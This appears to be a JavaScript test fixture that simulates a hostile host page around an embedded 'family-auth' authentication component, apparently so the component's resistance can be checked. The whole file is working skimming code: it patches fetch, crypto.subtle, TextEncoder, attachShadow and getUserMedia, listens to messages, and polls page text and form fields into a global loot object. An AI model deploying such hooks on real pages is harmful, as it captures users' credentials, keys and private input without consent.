/**
 * A script of the portal that means ill, run before any other: it reads the page, and everything that goes through what it can patch.
 * What it got lies in `globalThis.__loot`.
 */
export function hostilePage() {
  if (window !== window.top) return; // a portal's script is in the portal's page, not in the frame
  const loot = { texts: [], frames: [], events: [] };
  globalThis.__loot = loot;
  const keep = (value) => {
    if (loot.texts.length < 20_000) loot.texts.push(String(value));
  };
  const bytes = (value) => {
    try {
      const view = ArrayBuffer.isView(value) ? value : new Uint8Array(value);
      keep(new TextDecoder().decode(view));
    } catch {
      // not bytes
    }
  };

  const { fetch } = globalThis;
  globalThis.fetch = async (input, init) => {
    keep(input.url ?? input);
    for (const [name, value] of new Headers(init?.headers ?? input.headers)) keep(`${name}: ${value}`);
    const answer = await fetch(input, init);
    answer
      .clone()
      .text()
      .then(keep, () => {});
    return answer;
  };
  const { subtle } = crypto;
  for (const name of ['encrypt', 'sign', 'digest', 'importKey']) {
    const original = subtle[name].bind(subtle);
    subtle[name] = (...args) => {
      for (const arg of args) bytes(arg);
      return original(...args);
    };
  }
  const { encode } = TextEncoder.prototype;
  TextEncoder.prototype.encode = function patched(text) {
    keep(text);
    return encode.call(this, text);
  };
  const { attachShadow } = Element.prototype;
  const roots = [];
  Element.prototype.attachShadow = function patched(init) {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.push(root);
    return root;
  };
  const { define } = customElements;
  customElements.define = function patched(name, definition, options) {
    keep(name);
    return define.call(this, name, definition, options);
  };
  const devices = navigator.mediaDevices;
  const open = devices?.getUserMedia.bind(devices);
  if (open) {
    devices.getUserMedia = async (constraints) => {
      const stream = await open(constraints);
      loot.frames.push(stream.id);
      return stream;
    };
  }
  addEventListener('message', ({ data, origin }) => keep(`${origin} ${JSON.stringify(data)}`), true);
  for (const type of ['ready', 'phase', 'complete', 'error', 'close']) {
    document.addEventListener(
      `family-auth-${type}`,
      ({ detail }) => loot.events.push({ type, detail }),
      true,
    );
  }
  // What lies on the screen, and in the fields.
  setInterval(() => {
    for (const root of [document, ...roots]) {
      keep(root.textContent ?? '');
      for (const field of root.querySelectorAll('input, select, textarea')) keep(field.value);
      for (const frame of root.querySelectorAll('iframe')) {
        try {
          keep(frame.contentDocument.body.textContent);
        } catch {
          // another origin
        }
      }
    }
    const element = document.querySelector('family-auth');
    if (element) keep(JSON.stringify(element.phase ?? null));
  }, 200);
}
